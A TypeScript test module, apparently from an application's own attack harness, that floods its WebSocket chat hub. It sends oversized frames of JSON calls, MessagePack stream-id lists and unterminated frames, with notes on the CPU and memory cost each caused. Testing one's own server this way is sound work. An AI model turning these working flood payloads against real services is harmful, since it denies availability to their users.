import { WebSocket } from "ws";
import { HUB_PATH } from "../hub/chat-client.ts";
import type { Attack, Attackers } from "./attack.ts";
import { freshHubToken } from "./person.ts";

const END = "\x1e";
/** The largest message of a socket that the hub takes. */
const FRAME_BYTES = 1024 * 1024;
const UNANSWERED_MS = 10_000;

/** A small call that goes to nobody, as often as fits. */
const CALL = `{"type":1,"target":"W","arguments":[]}${END}`;
/** The last wants an answer, so that something comes back. */
const ASKED = `{"type":1,"invocationId":"end","target":"W","arguments":[]}${END}`;
const CALLS = CALL.repeat(Math.floor(FRAME_BYTES / CALL.length) - 2) + ASKED;
/** The last is not whole: the hub keeps its beginning, and need not keep the frame around it. */
const REST = `${CALL.repeat(Math.floor(FRAME_BYTES / CALL.length) - 2)}{"type":1,"target":"`;

/** A call of MessagePack that names so many streams: `[1, {}, "end", "W", [], ids]`. */
function streamsCall(count: number): Buffer {
  const ids = Array.from({ length: count }, (_, index) => packedText(index.toString(36)));
  const head = [Buffer.from([0x96, 1, 0x80]), packedText("end"), packedText("W"), Buffer.from([0x90, 0xdc, 0, 0])];
  head[3]?.writeUInt16BE(count, 2);
  return withLength(Buffer.concat([...head, ...ids]));
}

function packedText(text: string): Buffer {
  return Buffer.from([0xa0 | text.length, ...Buffer.from(text)]);
}

/** Its length before it, seven bits a byte. */
function withLength(message: Buffer): Buffer {
  const length: number[] = [];
  for (let left = message.length; left > 0; left >>= 7) length.push((left & 0x7f) | (left > 0x7f ? 0x80 : 0));
  return Buffer.concat([Buffer.from(length), message]);
}

const ONE = streamsCall(8_000);
const STREAM_CALLS = Math.floor(FRAME_BYTES / ONE.length);
const STREAMS = Buffer.concat(Array.from({ length: STREAM_CALLS }, () => ONE));

/** Connects, sends one frame, and goes when it has had so many answers, or after a time. */
function frame(
  protocol: "json" | "messagepack",
  bytes: string | Buffer,
  answers: number,
  staysMs = UNANSWERED_MS,
): Attack["once"] {
  return async ({ url, guests }: Attackers, n) => {
    const person = guests[n % guests.length];
    if (!person) return 0;
    const token = encodeURIComponent(await freshHubToken(person));
    const socket = new WebSocket(`${url.replace("http", "ws")}${HUB_PATH}?access_token=${token}`, {
      perMessageDeflate: false,
    });
    return new Promise((done) => {
      let messages = 0;
      const end = (status: number): void => {
        socket.terminate();
        done(status);
      };
      const late = setTimeout(end, staysMs, 0);
      socket.on("open", () => socket.send(`{"protocol":"${protocol}","version":1}${END}`));
      socket.on("message", () => {
        messages += 1;
        // The first is the handshake's.
        if (messages === 1) socket.send(bytes);
        else if (messages > answers) end(200);
      });
      socket.on("unexpected-response", (_request, { statusCode = 0 }) => end(statusCode));
      socket.on("error", () => end(0));
      socket.on("close", () => {
        clearTimeout(late);
        end(0);
      });
    });
  };
}

/** Nobody waits longer for any one frame. */
const ONE_FRAME_MS = 50;

/** What was sent to the hub in one frame to keep it from everybody else. */
export const HUB_FLOODS: readonly Attack[] = [
  {
    name: "hub: frames of stream ids",
    before: "5.1 s of processor",
    atOnce: 10,
    once: frame("messagepack", STREAMS, STREAM_CALLS),
  },
  { name: "hub: frames of 26,000 calls", atOnce: 10, once: frame("json", CALLS, 1) },
  {
    name: "hub: one frame of stream ids at a time",
    atOnce: 1,
    chatWithinMs: ONE_FRAME_MS,
    once: frame("messagepack", STREAMS, STREAM_CALLS),
  },
  {
    name: "hub: one frame of 26,000 calls at a time",
    atOnce: 1,
    chatWithinMs: ONE_FRAME_MS,
    once: frame("json", CALLS, 1),
  },
  { name: "hub: frames without an end", before: "1 MB kept each", atOnce: 30, once: frame("json", REST, 1, 2_000) },
];
